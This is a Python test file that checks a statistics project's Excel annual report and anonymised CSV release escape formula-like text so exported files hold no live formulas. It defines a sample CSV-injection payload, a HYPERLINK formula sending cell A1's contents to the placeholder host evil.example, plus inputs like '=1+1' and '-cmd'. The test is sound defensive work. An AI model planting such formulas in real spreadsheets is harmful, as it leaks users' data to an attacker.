"""Statistics files (annual report workbook, anonymised release CSV) never hold a formula."""

import csv
import io

import openpyxl

from ctip.statistics.annual import AnnualReport, Table, annual_report_xlsx
from ctip.statistics.protection import Cell
from ctip.statistics.release import Release

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_the_annual_workbook_quotes_formula_labels_and_keeps_figures_as_numbers():
    table = Table(
        1,
        "-title",
        ["@column"],
        rows=[
            {"label": PAYLOAD, "cells": [Cell(value=-3)], "is_total": False},
            {"label": "Total", "cells": [Cell(value=2, suppressed="primary")], "is_total": True},
        ],
        note="+note",
    )
    book = openpyxl.load_workbook(
        io.BytesIO(annual_report_xlsx(AnnualReport(year=2025, threshold=5, tables=[table])))
    )
    sheet = book["T1"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[2] == [None, "'@column"]
    assert rows[3] == ["'" + PAYLOAD, -3]  # the figure is still a number
    assert rows[4] == ["Total", "<5"]
    assert "'+note" in [r[0] for r in rows]
    assert sheet["A1"].value == "1. -title"  # starts with a digit: harmless, unchanged
    assert sheet["B4"].data_type == "n"
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_release_csv_quotes_formula_texts_and_leaves_numbers():
    release = Release(
        k=2,
        levels={},
        rows=[{"sex": "f", "age": "=1+1", "region": "-cmd", "year": 2025}],
        considered=1,
        suppressed=0,
        columns=["sex", "age", "region", "year"],
    )
    assert list(csv.reader(io.StringIO(release.to_csv()))) == [
        ["sex", "age", "region", "region_name", "year"],
        ["f", "'=1+1", "'-cmd", "'-cmd", "2025"],  # a region without a name stays as it is
    ]
